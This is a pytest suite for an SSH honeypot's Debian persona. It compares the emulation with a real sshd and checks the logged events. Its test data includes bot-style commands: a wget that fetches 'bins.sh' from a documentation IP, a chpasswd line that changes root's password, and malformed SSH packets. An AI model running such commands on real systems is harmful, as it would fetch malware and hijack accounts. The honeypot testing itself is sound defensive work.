"""The linux persona's SSH port against Debian 12's own sshd, side by side on
loopback: the identification string and KEXINIT lists, ssh-audit's report,
answers to malformed input, and the authentication dialogue must be the
same; the OpenSSH client and paramiko log in with wrong and "right"
passwords over every algorithm sshd offers that lure implements, and the
events carry user, password, method, client version and HASSH."""
import calendar
import hashlib
import json
import os
import re
import shutil
import socket
import struct
import subprocess
import threading
import time
import warnings
from pathlib import Path

import pytest

from conftest import get, persona, recv_to_eof
from ssh_common import (drain, free_port, parse_kexinit,  # noqa: F401
                        read_line, recv_exact, start_sshd, wait_port)

persona("linux")

paramiko = pytest.importorskip("paramiko")

RIGHT = ("root", "123456")  # emu/personas/linux/ssh.conf: ssh.accept
CLIENT_VERSION = b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n"


@pytest.fixture(scope="module")
def sshd(tmp_path_factory):
    """Debian's sshd with its stock authentication settings on a free
    loopback port (fresh host keys): yields the port."""
    p, port = start_sshd(tmp_path_factory.mktemp("sshd"))
    try:
        yield port
    finally:
        p.terminate()
        p.wait(timeout=10)


# --- raw protocol helpers ---------------------------------------------------

def read_plain_packet(s):
    """(packet_length, padding, payload) of an unencrypted packet."""
    head = recv_exact(s, 5)
    length, pad = struct.unpack(">IB", head)
    rest = recv_exact(s, length - 1)
    return length, rest[len(rest) - pad:], rest[:len(rest) - pad]


def kexinit_of(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
        banner = read_line(s)
        s.sendall(CLIENT_VERSION)
        length, padding, payload = read_plain_packet(s)
    lists, tail = parse_kexinit(payload)
    return banner, length, padding, lists, tail


def answer(port, chunks, wait=1.5):
    """What the server sends after its banner to chunks (sent 0.2 s apart),
    with KEXINIT cookies zeroed, and how it ended: eof, reset or open."""
    s = socket.create_connection(("127.0.0.1", port), timeout=5)
    read_line(s)
    for c in chunks:
        try:
            s.sendall(c)
        except OSError:
            break
        time.sleep(0.2)
    out, end = drain(s, wait)
    if out[5:6] == b"\x14":  # a KEXINIT: its cookie is random
        out = out[:6] + b"\0" * 16 + out[22:]
    return out, end


# --- identity ---------------------------------------------------------------

def test_banner_and_kexinit_equal_sshd(sshd, sensor):
    real = kexinit_of(sshd)
    ours = kexinit_of(sensor.port(22))
    assert ours[0] == real[0], "identification string"
    assert ours[3] == real[3], "KEXINIT name-lists"
    assert ours[4] == real[4], "first_kex_packet_follows and reserved"
    assert (ours[1], ours[2]) == (real[1], real[2]), "length and padding"
    assert set(ours[2]) == {0}, "sshd pads with zeros before keys"


def test_silent_client_gets_the_login_grace_time_not_idle_timeout(lure, state):
    """sshd gives a client LoginGraceTime (120 s) whatever it sends: a
    client quiet for longer than lure's limits.idle_timeout is still
    answered (the emulator's grace timer stands for the daemon's limit)."""
    s = lure({"state_file": str(state), "limits": {"idle_timeout": 2}},
             wait=False)
    s.start_event = s.wait_event("status", timeout=60, event__reason="start")
    with socket.create_connection(("127.0.0.1", s.port(22)), timeout=10) as c:
        assert read_line(c).startswith(b"SSH-2.0-OpenSSH_9.2p1")
        time.sleep(4.5)
        c.sendall(CLIENT_VERSION)
        _, _, payload = read_plain_packet(c)
        assert payload[0] == 20  # KEXINIT


def test_banner_comes_after_a_fork_and_exec_like_sshd(sshd, sensor):
    """sshd forks and re-executes itself before its line: milliseconds, not
    lure's 0.1 ms (ssh.banner_delay_ms 6 to 11)."""
    def median_ms(port):
        ts = []
        for _ in range(9):
            t = time.perf_counter()
            with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
                s.recv(64)
                ts.append((time.perf_counter() - t) * 1000)
        return sorted(ts)[4]
    real, ours = median_ms(sshd), median_ms(sensor.port(22))
    assert real >= 3, real
    assert 5 <= ours < 100, (ours, real)


def test_max_startups_like_sshd(sshd, sensor):
    """MaxStartups 10:30:100 (sshd's default): with 10 connections not yet
    logged in, a new one is dropped with "Exceeded MaxStartups" at 30%
    and more; both servers drop some of 40, lure never one of the first
    10, and a dropped client reads exactly that line, then the close."""
    def run(port):
        held, dropped = [], []
        try:
            for i in range(40):
                s = socket.create_connection(("127.0.0.1", port), timeout=5)
                data = s.recv(len(b"Exceeded MaxStartups\r\n"))
                if data.startswith(b"Exceeded"):
                    rest, closed = recv_to_eof(s, 3)
                    dropped.append((i, data + rest, closed))
                    s.close()
                else:
                    assert data.startswith(b"SSH-2.0-OpenSSH_9.2p1"), data
                    held.append(s)
        finally:
            for s in held:
                s.close()
        time.sleep(1)  # sshd's children see the close and exit
        return dropped
    for port in (sshd, sensor.port(22)):
        dropped = run(port)
        assert dropped and all(d == b"Exceeded MaxStartups\r\n" and closed
                               for _, d, closed in dropped), (port, dropped)
        # lure is fresh: exactly the rule's first 10 (sshd may still count
        # children of earlier tests, in a PAM failure delay)
        assert port == sshd or all(i >= 10 for i, _, _ in dropped), dropped


def test_ssh_audit_same_report(sshd, sensor):
    exe = shutil.which("ssh-audit")
    if not exe:
        pytest.skip("ssh-audit (PyPI) not installed")

    def report(port):
        r = subprocess.run([exe, "-j", "-p", str(port), "127.0.0.1"],
                           capture_output=True, timeout=120)
        j = json.loads(r.stdout)
        assert j.get("kex"), r.stdout[:500]
        keys = sorted(f["hostkey"] for f in j.pop("fingerprints"))
        j.pop("target")
        # the DHEat note quotes the measured connection rate
        text = re.sub(r"\d+(\.\d+)? (connections|seconds|conns/sec)",
                      r"N \2", json.dumps(j, sort_keys=True))
        return r.returncode, keys, json.loads(text)

    assert report(sensor.port(22)) == report(sshd)


BAD = {
    "no_version": [],
    "major_1": [b"SSH-1.5-1.2.27\r\n"],
    "ssh_1_99": [b"SSH-1.99-x\r\n"],
    "lf_only": [b"SSH-2.0-x\n"],
    "http": [b"GET / HTTP/1.0\r\n\r\n"],
    "nul": [b"SSH-2.0-f\x00oo\r\n"],
    "cr_inside": [b"SSH-2.0-x\rfoo\r\n"],
    "no_software": [b"SSH-2.0-\r\n"],
    "pre_lines": [b"hello\r\nSSH-2.0-x\r\n"],
    "long_line": [b"SSH-2.0-" + b"A" * 200 + b"\r\n"],
    "newkeys_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x15" + b"A" * 10],
    "ignore_first": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x0a\x02" + b"A" * 10],
    "oversized": [b"SSH-2.0-x\r\n", b"\x7f\xff\xff\xff" + b"A" * 60],
    "too_short": [b"SSH-2.0-x\r\n", b"\0\0\0\x01" + b"A" * 60],
    "misaligned": [b"SSH-2.0-x\r\n", b"\0\0\0\x0d\x0a\x02" + b"A" * 11],
    "bad_padding": [b"SSH-2.0-x\r\n", b"\0\0\0\x0c\x02\x02" + b"A" * 10],
    "garbage": [b"SSH-2.0-x\r\n", bytes(range(256)) * 4],
}


@pytest.mark.parametrize("case", sorted(BAD))
def test_malformed_input_like_sshd(sshd, sensor, case):
    real = answer(sshd, BAD[case])
    ours = answer(sensor.port(22), BAD[case])
    # sshd resets when the client's unread bytes are still queued; lure's
    # core may close with a FIN instead: bytes and "closed" must agree
    assert ours[0] == real[0]
    assert (ours[1] == "open") == (real[1] == "open"), (ours[1], real[1])
    assert sensor.alive()


# --- the OpenSSH client -----------------------------------------------------

def ssh_cmd(port, user, password, *opts, cmd="echo hi"):
    """The OpenSSH client with a password; opts first (ssh keeps the first
    value of an option)."""
    return subprocess.run(
        ["sshpass", "-p", password, "ssh", *opts,
         "-o", "StrictHostKeyChecking=no",
         "-o", "UserKnownHostsFile=/dev/null", "-o", "LogLevel=ERROR",
         "-o", "PubkeyAuthentication=no", "-o", "NumberOfPasswordPrompts=1",
         "-p", str(port), f"{user}@127.0.0.1", cmd],
        capture_output=True, timeout=60, stdin=subprocess.DEVNULL)


def hassh_of_client(argv):
    """HASSH of what a client sends, from its KEXINIT on a bare socket (an
    independent computation: kex;enc c2s;mac c2s;comp c2s, MD5)."""
    srv = socket.socket()
    srv.bind(("127.0.0.1", 0))
    srv.listen(1)
    port = srv.getsockname()[1]
    p = subprocess.Popen(argv(port), stdin=subprocess.DEVNULL,
                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    try:
        srv.settimeout(10)
        c, _ = srv.accept()
        c.sendall(b"SSH-2.0-OpenSSH_9.2p1 Debian-2+deb12u10\r\n")
        version = read_line(c).rstrip(b"\r\n").decode()
        _, _, payload = read_plain_packet(c)
        c.close()
    finally:
        srv.close()
        p.kill()
        p.wait()
    lists, _ = parse_kexinit(payload)
    s = ";".join([lists[0], lists[2], lists[4], lists[6]])
    return version, hashlib.md5(s.encode()).hexdigest(), s


def test_openssh_wrong_and_right_password(sshd, sensor):
    port = sensor.port(22)
    version, hassh, algs = hassh_of_client(
        lambda p: ["ssh", "-o", "StrictHostKeyChecking=no", "-o",
                   "UserKnownHostsFile=/dev/null", "-o", "BatchMode=yes",
                   "-p", str(p), "x@127.0.0.1", "true"])
    bad_real = ssh_cmd(sshd, "root", "wrong-pw")
    bad = ssh_cmd(port, "root", "wrong-pw")
    assert bad.returncode == bad_real.returncode == 255
    assert b"Permission denied" in bad.stderr
    assert bad.stderr == bad_real.stderr
    ok = ssh_cmd(port, *RIGHT, cmd="uname -a; id")
    assert ok.returncode == 0, ok.stderr
    fail = sensor.wait_event("login", user__name="root",
                             lure__auth__password="wrong-pw")
    assert get(fail, "event.outcome") == "failure"
    assert get(fail, "lure.auth.method") == "password"
    assert get(fail, "lure.ssh.client_version") == version
    assert get(fail, "lure.ssh.hassh") == hassh
    good = sensor.wait_event("login", user__name="root",
                             lure__auth__password=RIGHT[1])
    assert get(good, "event.outcome") == "success"
    cmd = sensor.wait_event("command", lure__command="uname -a; id")
    assert get(cmd, "user.name") == "root"
    req = sensor.wait_event("request", lure__ssh__hassh=hassh)
    assert get(req, "lure.ssh.hassh_algorithms") == algs


ALGS = ([("KexAlgorithms", k) for k in (
    "sntrup761x25519-sha512@openssh.com", "curve25519-sha256",
    "curve25519-sha256@libssh.org", "ecdh-sha2-nistp256",
    "ecdh-sha2-nistp384", "ecdh-sha2-nistp521",
    "diffie-hellman-group-exchange-sha256", "diffie-hellman-group16-sha512",
    "diffie-hellman-group18-sha512", "diffie-hellman-group14-sha256")]
    + [("HostKeyAlgorithms", h) for h in (
        "rsa-sha2-512", "rsa-sha2-256", "ecdsa-sha2-nistp256", "ssh-ed25519")]
    + [("Ciphers", c) for c in (
        "chacha20-poly1305@openssh.com", "aes128-gcm@openssh.com",
        "aes256-gcm@openssh.com")]
    + [("MACs", m) for m in (
        "hmac-sha2-256-etm@openssh.com", "hmac-sha2-512-etm@openssh.com",
        "hmac-sha1-etm@openssh.com", "hmac-sha2-256", "hmac-sha2-512",
        "hmac-sha1")])


@pytest.mark.parametrize("opt,alg", ALGS, ids=[a for _, a in ALGS])
def test_openssh_every_algorithm(sensor, opt, alg):
    extra = ["-o", f"{opt}={alg}"]
    if opt == "MACs":
        for c in ("aes128-ctr", "aes192-ctr", "aes256-ctr"):
            r = ssh_cmd(sensor.port(22), *RIGHT, *extra, "-c", c,
                        cmd=f"true {c}")
            assert r.returncode == 0, (c, r.stderr)
        return
    r = ssh_cmd(sensor.port(22), *RIGHT, *extra, "-v", cmd=f"true {alg}")
    assert r.returncode == 0, r.stderr[-2000:]
    assert alg.encode() in r.stderr  # the client says what it settled on
    sensor.wait_event("command", lure__command=f"true {alg}")


def test_openssh_compression(sensor):
    """ssh -C: zlib@openssh.com both ways from the login on (sshd's delayed
    compression); the client inflates what lure sends and lure what the
    client sends, over several packets and commands."""
    plain = ssh_cmd(sensor.port(22), *RIGHT, cmd="cat /proc/cpuinfo; uname -a")
    assert plain.returncode == 0 and len(plain.stdout) > 500, plain.stderr
    r = ssh_cmd(sensor.port(22), *RIGHT, "-C", "-v",
                cmd="cat /proc/cpuinfo; uname -a")
    assert r.returncode == 0, r.stderr[-2000:]
    assert b"compression: zlib@openssh.com" in r.stderr
    assert b"compress incoming: raw data" in r.stderr  # it was used
    assert r.stdout == plain.stdout
    sensor.wait_event("command", lure__command="cat /proc/cpuinfo; uname -a")


def pty_shell(sensor, term="vt100", **kw):
    """paramiko logged in with RIGHT, a shell with a pty: (client, channel,
    what came before the first prompt)."""
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
              password=RIGHT[1], look_for_keys=False, allow_agent=False,
              timeout=10, **kw)
    ch = c.invoke_shell(term=term)
    ch.settimeout(5)
    buf = b""
    while not buf.endswith(b"# "):
        buf += ch.recv(1024)
    return c, ch, buf


def test_paramiko_compression_shell(sensor):
    """paramiko compresses with Z_FULL_FLUSH (OpenSSH: Z_PARTIAL_FLUSH): a
    shell session of several lines, each one event."""
    c, ch, _ = pty_shell(sensor, compress=True)
    assert c.get_transport().remote_compression == "zlib@openssh.com"
    for i in range(3):
        ch.sendall(f"echo zlib-{i}-{'x' * 300}\r".encode())
        sensor.wait_event("command", lure__command=f"echo zlib-{i}-{'x' * 300}")
    buf = b""
    while b"zlib-2-" + b"x" * 300 + b"\r\n" not in buf:
        buf += ch.recv(4096)
    ch.sendall(b"exit 0\r")
    assert ch.recv_exit_status() == 0
    c.close()


def test_a_session_while_the_last_one_closes(sensor):
    """A client that opens its next session as soon as the last one's exit
    status is in (before its CLOSE crossed ours) gets it, as from sshd
    (MaxSessions 10): not "administratively prohibited"."""
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
              password=RIGHT[1], look_for_keys=False, allow_agent=False,
              timeout=10)
    t = c.get_transport()
    for i in range(10):
        one = t.open_session(timeout=5)
        one.exec_command(f"echo one{i}")
        assert one.recv_exit_status() == 0
        two = t.open_session(timeout=5)
        two.exec_command(f"echo two{i}")
        assert two.recv_exit_status() == 0
        assert two.makefile().read() == f"two{i}\n".encode()
    c.close()


def test_term_is_the_ptys(sensor):
    """$TERM in a session with a pty is what the pty request named."""
    c, ch, buf = pty_shell(sensor, term="xterm-256color")
    ch.sendall(b"echo T=$TERM.\r")
    while b"T=xterm-256color.\r\n" not in buf:
        buf += ch.recv(1024)
    c.close()


def test_last_login_names_the_previous_login(sensor):
    """sshd's PrintLastLog: a login with a terminal ends its motd with the
    user's previous such login, time (UTC) and address; none before the
    first since the sensor started, and exec requests show none."""
    def login():
        c, _, buf = pty_shell(sensor)
        c.close()
        return buf
    assert b"Last login" not in login()
    t = time.gmtime()
    got = re.search(rb"permitted by applicable law\.\r\n"
                    rb"Last login: (\w{3} \w{3} [ \d]\d \d\d:\d\d:\d\d \d{4}) "
                    rb"from 127\.0\.0\.1\r\nroot@", login())
    assert got, "no Last login line after the motd"
    when = time.strptime(got.group(1).decode(), "%a %b %d %H:%M:%S %Y")
    assert abs(calendar.timegm(when) - calendar.timegm(t)) < 30


# --- paramiko ---------------------------------------------------------------

def test_paramiko_password_and_publickey(sensor, tmp_path):
    port = sensor.port(22)
    key = paramiko.Ed25519Key.from_private_key_file(
        str(make_key(tmp_path)))
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    with pytest.raises(paramiko.AuthenticationException):
        c.connect("127.0.0.1", port, username="admin", password="nope",
                  pkey=key, look_for_keys=False, allow_agent=False,
                  timeout=10)
    c.close()
    pk = sensor.wait_event("login", lure__auth__method="publickey")
    assert get(pk, "user.name") == "admin"
    assert get(pk, "lure.ssh.key_type") == "ssh-ed25519"
    fp = subprocess.run(["ssh-keygen", "-l", "-f", str(tmp_path / "k")],
                        capture_output=True, check=True).stdout.split()[1]
    assert get(pk, "lure.ssh.key_fingerprint") == fp.decode()
    assert get(pk, "lure.ssh.client_version").startswith("SSH-2.0-paramiko_")
    pw = sensor.wait_event("login", lure__auth__password="nope")
    assert get(pw, "user.name") == "admin"
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", port, username="admin", password="admin",
              look_for_keys=False, allow_agent=False, timeout=10)
    _, out, _ = c.exec_command("echo ok")
    assert out.read() == b"ok\n"  # the fake shell answers (src/shell.c)
    assert out.channel.recv_exit_status() == 0
    c.close()
    sensor.wait_event("command", lure__command="echo ok")


def make_key(tmp_path):
    subprocess.run(["ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-f",
                    str(tmp_path / "k")], check=True)
    return tmp_path / "k"


def test_host_key_is_per_instance_and_kept(sensor, lure, state, tmp_path):
    """Host keys come from the state file: the same after a restart, new
    for another sensor."""
    def keys(port):
        r = subprocess.run(["ssh-keyscan", "-p", str(port), "127.0.0.1"],
                           capture_output=True, timeout=30)
        return sorted(l.split(None, 1)[1] for l in r.stdout.decode().splitlines())

    def start(path):
        s = lure({"state_file": str(path)}, wait=False)
        s.start_event = s.wait_event("status", timeout=60,
                                     event__reason="start")
        return s
    first = keys(sensor.port(22))
    assert [k.split()[0] for k in first] == [
        "ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
    assert "ssh.rsa" in state.read_text()
    sensor.stop()
    assert keys(start(state).port(22)) == first
    assert not set(keys(start(tmp_path / "other.state").port(22))) & set(first)


def failures(port, out):
    """Six wrong passwords on one connection: per attempt the seconds it
    took and how it ended."""
    t = paramiko.Transport(("127.0.0.1", port))
    t.start_client(timeout=10)
    try:
        t.auth_none("root")
    except paramiko.BadAuthenticationType as e:
        out.append(("none", sorted(e.allowed_types)))
    for i in range(6):
        t0 = time.monotonic()
        try:
            t.auth_password("root", f"wrong{i}")
            out.append(("ok", 0))
        except paramiko.AuthenticationException as e:
            out.append((str(e), round(time.monotonic() - t0, 1)))
    t.close()


def test_failure_delay_and_max_tries_like_sshd(sshd, sensor):
    real, ours = [], []
    th = [threading.Thread(target=failures, args=(sshd, real)),
          threading.Thread(target=failures, args=(sensor.port(22), ours))]
    for x in th:
        x.start()
    for x in th:
        x.join(timeout=90)
    assert [o[0] for o in ours] == [r[0] for r in real]
    assert ours[-1][0].endswith("transport shut down or saw EOF")
    # PAM's failure delay (pam_unix: 2 s, randomised by libpam; 2.6 s on
    # an idle machine): each of ours within what sshd took, give or take;
    # a loaded machine (the sanitizer pass) only slows the real sshd, so
    # ours may be as fast as sshd on an idle one, never faster than 2 s
    lo = min(min(b for _, b in real[1:]) - 0.5, 2.0)
    hi = max(b for _, b in real[1:]) + 0.5
    for _, a in ours[1:]:
        assert lo <= a <= hi, (ours, real)
    assert len(sensor.find("login", lure__auth__method="password")) >= 6


def test_garbage_after_keys_closes_quietly(sensor):
    """After NEWKEYS, bytes that fail the MAC close the connection without
    a word (sshd: "Corrupted MAC on input"); lure stays up."""
    port = sensor.port(22)
    t = paramiko.Transport(("127.0.0.1", port))
    t.start_client(timeout=10)
    assert t.is_active()
    t.sock.sendall(os.urandom(64))
    end = time.monotonic() + 5
    while t.is_active() and time.monotonic() < end:
        time.sleep(0.05)
    assert not t.is_active(), "lure kept a connection with a bad MAC open"
    t.close()
    for _ in range(3):
        with socket.create_connection(("127.0.0.1", port), timeout=5) as s:
            assert read_line(s).startswith(b"SSH-2.0-OpenSSH_9.2p1")
    assert sensor.alive()


def user_change(port):
    """Two user names on one connection: sshd refuses the second."""
    t = paramiko.Transport(("127.0.0.1", port))
    t.start_client(timeout=10)
    out = []
    for user in ("root", "admin"):
        try:
            t.auth_password(user, "not-it")
        except paramiko.AuthenticationException as e:
            out.append(str(e))
    t.close()
    return out


def test_user_change_refused_like_sshd(sshd, sensor):
    real, ours = [], []
    th = [threading.Thread(target=lambda: real.extend(user_change(sshd))),
          threading.Thread(target=lambda: ours.extend(
              user_change(sensor.port(22))))]
    for x in th:
        x.start()
    for x in th:
        x.join(timeout=60)
    assert ours == real
    assert ours[-1].endswith("transport shut down or saw EOF")
    # the password of the refused request is still captured
    sensor.wait_event("login", user__name="admin",
                      lure__auth__password="not-it")


def test_shell_lines_are_commands(sensor):
    c, ch, _ = pty_shell(sensor)
    ch.sendall(b"cd /tmp; wget http://192.0.2.5/bins.sh\r")
    sensor.wait_event("command",
                      lure__command="cd /tmp; wget http://192.0.2.5/bins.sh")
    # bash's "exit" keeps $? (wget failed): "exit 0" ends it cleanly
    ch.sendall(b"exit 0\r")
    assert ch.recv_exit_status() == 0
    c.close()


def test_update_host_keys_learns_all_three(sensor, tmp_path):
    """After a login sshd announces every host key (hostkeys-00) and signs
    a proof for the ones the client asks about: OpenSSH's client checks the
    signatures and adds the RSA and ECDSA keys to known_hosts."""
    port = sensor.port(22)
    kh = tmp_path / "known_hosts"
    scan = subprocess.run(["ssh-keyscan", "-t", "ed25519", "-p", str(port),
                           "127.0.0.1"], capture_output=True, timeout=30)
    kh.write_bytes(scan.stdout)
    r = ssh_cmd(port, *RIGHT, "-o", "UpdateHostKeys=yes", "-o",
                "StrictHostKeyChecking=yes", "-o", f"UserKnownHostsFile={kh}",
                "-v")
    assert r.returncode == 0, r.stderr[-2000:]
    assert b"hostkeys-00@openssh.com" in r.stderr
    types = sorted(l.split()[1] for l in kh.read_text().splitlines())
    assert types == ["ecdsa-sha2-nistp256", "ssh-ed25519", "ssh-rsa"]
    for alg in ("rsa-sha2-256", "ecdsa-sha2-nistp256"):
        r = ssh_cmd(port, *RIGHT, "-o", "StrictHostKeyChecking=yes",
                    "-o", f"UserKnownHostsFile={kh}", "-o",
                    f"HostKeyAlgorithms={alg}")
        assert r.returncode == 0, r.stderr


def exec_all(sensor, lines):
    """Each line as an exec request on one connection: [(stdout, stderr,
    status)]."""
    c = paramiko.SSHClient()
    c.set_missing_host_key_policy(paramiko.AutoAddPolicy())
    c.connect("127.0.0.1", sensor.port(22), username=RIGHT[0],
              password=RIGHT[1], look_for_keys=False, allow_agent=False,
              timeout=10)
    res = []
    for line in lines:
        _, out, err = c.exec_command(line)
        res.append((out.read().decode(), err.read().decode(),
                    out.channel.recv_exit_status()))
    c.close()
    return res


def persona_free():
    """The persona's `free` numbers (shell.free, kB)."""
    text = (Path(__file__).resolve().parents[2] / "emu/personas/linux/shell.conf").read_text()
    mem = re.search(r'^shell\.free\t"Mem:([ 0-9]+)"', text, re.M).group(1).split()
    return dict(zip(("total", "used", "free", "shared", "cache", "avail"),
                    map(int, mem)))


@pytest.mark.skipif(os.geteuid() != 0 or not shutil.which("unshare"),
                    reason="a mount namespace needs root")
def test_free_units_are_procps_own(sensor, tmp_path):
    """free -m/-g/-h/-b: Debian's own free (procps-ng 4.0.2) run over a
    /proc/meminfo holding the persona's numbers (used = total - available,
    buff/cache = Buffers + Cached + SReclaimable) prints what lure prints."""
    m = persona_free()
    info = (f"MemTotal: {m['total']} kB\nMemFree: {m['free']} kB\n"
            f"MemAvailable: {m['avail']} kB\nBuffers: 0 kB\n"
            f"Cached: {m['cache']} kB\nSwapCached: 0 kB\nShmem: {m['shared']} kB\n"
            "SReclaimable: 0 kB\nSwapTotal: 0 kB\nSwapFree: 0 kB\n")
    (tmp_path / "meminfo").write_text(info)
    opts = ["", "-m", "-g", "-h", "-b"]
    script = f"mount --bind {tmp_path}/meminfo /proc/meminfo && " + \
        " && echo --- && ".join(f"free {o}" for o in opts)
    real = subprocess.run(["unshare", "-m", "sh", "-c", script], check=True,
                          capture_output=True, text=True).stdout.split("---\n")
    ours = exec_all(sensor, [f"free {o}".strip() for o in opts])
    for o, want, got in zip(opts, real, ours):
        assert got == (want, "", 0), f"free {o}"


def test_bot_recon_answers_like_debian(sensor):
    """The questions the mdrfckr-style bots ask right after the login,
    through exec requests (no terminal): top refuses as procps's does
    (compared with the real one), uptime and w agree with the real uptime
    on this host's clock (the same boot time: the monotonic clock) with no
    user on a terminal, lscpu names the CPU of /proc/cpuinfo, crontab and
    chpasswd answer as on Debian 12."""
    lines = ["top", "uptime", "w", "lscpu | grep Model",
             "cat /proc/cpuinfo | grep name | head -n 1 | "
             "awk '{print $4,$5,$6,$7,$8,$9;}'",
             "crontab -l", "echo \"root:Xy12\"|chpasswd|bash; echo $?",
             "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'"]
    for _ in range(3):  # a minute may turn between the two uptimes
        real_up = subprocess.run(["uptime"], capture_output=True, text=True).stdout
        res = exec_all(sensor, lines)
        up = re.match(r" (\d\d:\d\d:\d\d) up (.*),  0 user,  load average: "
                      r"0\.00, 0\.00, 0\.00\n$", res[1][0])
        if up and re.match(r" \d\d:\d\d:\d\d up (.*), +\d+ users?,", real_up)[1] == up[2]:
            break
    else:
        pytest.fail(f"uptime: lure {res[1][0]!r}, this host {real_up!r}")
    top = subprocess.run(["top"], stdin=subprocess.DEVNULL, capture_output=True,
                         text=True)
    assert res[0] == (top.stdout, top.stderr, top.returncode)
    w = res[2][0].split("\n", 1)  # its clock may have ticked since uptime's
    assert w[0][10:] == res[1][0][10:-1] and w[1] == (
        "USER     TTY      FROM             LOGIN@   IDLE   JCPU   PCPU WHAT\n")
    cpu = re.search(r"^model name\t: (.*)$", (Path(__file__).resolve().parents[2]
                    / "emu/personas/linux/files/fs/proc/cpuinfo").read_text(), re.M)[1]
    assert re.match(r"Model name: +" + re.escape(cpu) + r"\nModel: +\d+\n$",
                    res[3][0])
    assert res[4][0].split() == cpu.split()
    assert res[5] == ("", "no crontab for root\n", 1)
    assert res[6] == ("0\n", "", 0)
    m = persona_free()
    assert res[7][0].split() == [str(m[k] // 1024) for k in
                                 ("total", "used", "free", "shared", "cache", "avail")]
    sensor.wait_event("command", lure__command="echo \"root:Xy12\"|chpasswd|bash; echo $?")


def test_ls_long_is_gnu(sensor, tmp_path):
    """ls -l and -lh in GNU coreutils' columns (the size column as wide as
    the listing's widest, "total" in KiB, -h rounded up), a binary's own
    size and date: the same line run by the real bash and ls (Debian 12's
    coreutils 9.1) in a fresh directory."""
    line = ("cp /usr/bin/ls x; echo 12345 > a; mkdir d; ls -l; ls -lh; "
            "ls -l x a; ls -lh /usr/bin/ls; ls -l /usr/bin/ls")
    for _ in range(3):  # a minute may turn between the two
        real = subprocess.run(["bash", "-c", line], cwd=tmp_path, capture_output=True,
                              text=True, env={"PATH": "/usr/bin:/bin", "LC_ALL": "C",
                                              "TZ": "UTC"})
        got = exec_all(sensor, ["cd /tmp; " + line])[0]
        if got == (real.stdout, real.stderr, real.returncode):
            return
        for p in tmp_path.iterdir():
            shutil.rmtree(p) if p.is_dir() else p.unlink()
    assert got == (real.stdout, real.stderr, real.returncode)


def test_dd_prints_gnu_third_line(sensor):
    """dd from /dev/zero: the record counts and GNU's third line (bytes in
    SI and IEC units as coreutils prints them; a plausible time and rate),
    the file written as large as asked."""
    out, err, st = exec_all(sensor, [
        "dd if=/dev/zero of=/tmp/t bs=1M count=10; ls -l /tmp/t; "
        "dd if=/dev/zero of=/dev/null bs=1000 count=1; echo hi | dd"])[0]
    assert st == 0
    assert re.fullmatch(r"-rw-r--r-- 1 root root 10485760 \w\w\w [ \d]\d \d\d:\d\d /tmp/t\nhi\n", out)
    assert re.fullmatch(
        r"10\+0 records in\n10\+0 records out\n"
        r"10485760 bytes \(10 MB, 10 MiB\) copied, 0\.0\d+ s, \d+\.\d MB/s\n"
        r"1\+0 records in\n1\+0 records out\n"
        r"1000 bytes \(1\.0 kB\) copied, \d(\.\d+)?e-05 s, \d+\.\d MB/s\n"
        r"0\+1 records in\n0\+1 records out\n"
        r"3 bytes copied, \d(\.\d+)?e-05 s, \d+\.\d kB/s\n", err), err


def crypt_ok(pw, h):
    """Does glibc's crypt (Python's crypt module) give h for pw?"""
    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        import crypt
    return crypt.crypt(pw, h) == h


def test_shadow_hash_is_the_bait_password_per_device(lure, tmp_path):
    """/etc/shadow holds root's sha512crypt (Debian 12 accepts it; its own
    passwd writes yescrypt) of the password ssh.accept takes, with a salt
    drawn per device: two sensors (two state files) show two hashes, both
    of which glibc's crypt verifies with the bait password; a restart
    keeps the hash. The other lines are Debian 12's, ls and wc count the
    bytes cat prints."""
    hashes = []
    for i in (0, 1, 0):
        st = tmp_path / f"state{i}"
        s = lure({"state_file": str(st)}, wait=False)
        s.start_event = s.wait_event("status", timeout=60, event__reason="start")
        out, err, rc = exec_all(s, ["cat /etc/shadow"])[0]
        size = exec_all(s, ["wc -c /etc/shadow; ls -l /etc/shadow"])[0][0]
        s.close()
        assert rc == 0 and err == ""
        root = out.split("\n")[0].split(":")
        assert root[0] == "root" and root[2:] == ["19518", "0", "99999", "7", "", "", ""]
        assert re.fullmatch(r"\$6\$[./0-9A-Za-z]{16}\$[./0-9A-Za-z]{86}", root[1])
        assert crypt_ok(RIGHT[1], root[1]) and not crypt_ok("wrong", root[1])
        assert "\nsshd:!:19518::::::\n" in out
        n = len(out.encode())
        assert size.startswith(f"{n} /etc/shadow\n")
        assert re.search(rf" root root +{n} ", size), size
        hashes.append(root[1])
    assert hashes[0] != hashes[1], "two sensors share a salt"
    assert hashes[0] == hashes[2], "a restart changed the hash"


def test_proc_uptime_agrees_with_uptime(sensor):
    """/proc/uptime: the seconds since boot that uptime's "up" counts (the
    same clock as this host's), then the two CPUs' idle seconds (fewer
    than twice the uptime); /proc/loadavg as uptime's load average; ls -l
    shows both as 0 bytes, as procfs does."""
    res = exec_all(sensor, ["cat /proc/uptime", "cat /proc/loadavg",
                            "ls -l /proc/uptime | awk '{print $5}'",
                            "head -c 3 /proc/loadavg; echo"])
    with open("/proc/uptime") as f:
        host = float(f.read().split()[0])
    up, idle = res[0][0].split()
    assert re.fullmatch(r"\d+\.\d\d", up) and re.fullmatch(r"\d+\.\d\d", idle)
    assert abs(float(up) - host) < 5, (up, host)
    assert float(up) <= float(idle) < 2 * float(up)
    assert re.fullmatch(r"0\.00 0\.00 0\.00 1/\d+ \d+\n", res[1][0])
    assert res[2][0] == "0\n" and res[3][0] == "0.0\n"


